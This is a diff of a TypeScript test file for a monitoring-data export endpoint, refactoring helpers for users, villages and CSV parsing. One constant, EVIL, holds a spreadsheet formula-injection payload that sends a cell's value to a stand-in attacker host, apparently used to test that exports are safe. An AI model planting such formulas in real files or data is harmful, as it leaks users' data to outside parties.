@@ -7,13 +7,13 @@ import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { handler as exportReports } from '../../functions/monitoring/export';
 import { handler as createScore } from '../../functions/scores/create';
-import { handler as deleteVillage } from '../../functions/villages/delete';
 import { MSG } from '../../lib/contract/messages';
 import { db } from '../../lib/db/client';
 import { sameScores } from '../robustness/support/fixture';
-import { invoke, uniqueName } from '../support/api';
-import { makeUser } from '../support/users';
-import { makeVillage } from '../support/villages';
+import { invoke } from '../support/api';
+import { parseCsv } from '../support/csv';
+import { makeUsers } from '../support/users';
+import { regionWithVillages, removeVillage } from '../support/villages';
 import { monitoring, report } from '../support/monitoring';
 
 const get = (query: Record<string, string>, token?: string) =>
@@ -22,19 +22,17 @@ const get = (query: Record<string, string>, token?: string) =>
 const EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")';
 
 async function region() {
-  const provinsi = uniqueName('Provinsi Ekspor Pemantauan');
-  const [dinas, admin, a, b, c] = await Promise.all([
-    makeUser('dinas'),
-    makeUser('admin'),
-    makeUser('pengelola'),
-    makeUser('pengelola'),
-    makeUser('pengelola'),
+  const {
+    provinsi,
+    dinas,
+    admin,
+    villages: [v1, v2, other],
+  } = await regionWithVillages('Provinsi Ekspor Pemantauan', (provinsi) => [
+    { provinsi, kabupaten: 'Sleman', nama_desa: 'Alpha' },
+    { provinsi, kabupaten: 'Bantul', nama_desa: 'Beta' },
+    { provinsi: `${provinsi} Lain`, kabupaten: 'Sleman', nama_desa: 'Lain' },
   ]);
-  const [v1, v2, other] = await Promise.all([
-    makeVillage(a, { provinsi, kabupaten: 'Sleman', nama_desa: 'Alpha' }),
-    makeVillage(b, { provinsi, kabupaten: 'Bantul', nama_desa: 'Beta' }),
-    makeVillage(c, { provinsi: `${provinsi} Lain`, kabupaten: 'Sleman', nama_desa: 'Lain' }),
-  ]);
+  const [a, b, c] = [v1.owner, v2.owner, other.owner];
   // Alpha is Maju before it reports: its months count in Maju
   const scored = await invoke(createScore, {
     method: 'POST',
@@ -64,32 +62,6 @@ async function sheetRows(res: { rawBody: string }) {
     rows.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1).value])));
   }
   return { header, rows };
-}
-
-/** RFC 4180 rows (quoted cells may hold commas, quotes and line breaks). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i]!;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') cell += text[++i];
-      else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',' || ch === '\n') {
-      row.push(cell);
-      cell = '';
-      if (ch === '\n') {
-        rows.push(row);
-        row = [];
-      }
-    } else if (ch !== '\r') cell += ch;
-  }
-  if (cell || row.length) rows.push([...row, cell]);
-  return rows;
 }
 
 describe('GET /api/pemantauan/export', () => {
@@ -156,13 +128,7 @@ describe('GET /api/pemantauan/export', () => {
 
   it('a deleted village’s months stay in the file, without its name; the link as JSON with tautan=1', async () => {
     const { provinsi, dinas, b, v2 } = await region();
-    const gone = await invoke(deleteVillage, {
-      method: 'DELETE',
-      resource: '/api/desa-wisata/{kd_desa}',
-      pathParameters: { kd_desa: v2 },
-      token: b.token,
-    });
-    expect(gone.statusCode).toBe(200);
+    expect((await removeVillage(v2, b.token)).statusCode).toBe(200);
     const { rows } = await sheetRows(await get({ tahun: '2025', provinsi }, dinas.token));
     expect(rows.find((r) => r['Kode desa'] === v2)).toMatchObject({ 'Nama desa': null, 'Wisatawan nusantara': 300 });
 
@@ -175,7 +141,7 @@ describe('GET /api/pemantauan/export', () => {
   });
 
   it('dinas and admin only; a bad year, format, region or tautan is a 400 naming it', async () => {
-    const [dinas, owner] = await Promise.all([makeUser('dinas'), makeUser('pengelola')]);
+    const [dinas, owner] = await makeUsers('dinas', 'pengelola');
     const next = String(Number(new Date().getUTCFullYear()) + 2);
     for (const [query, named] of [
       [{}, 'tahun'],
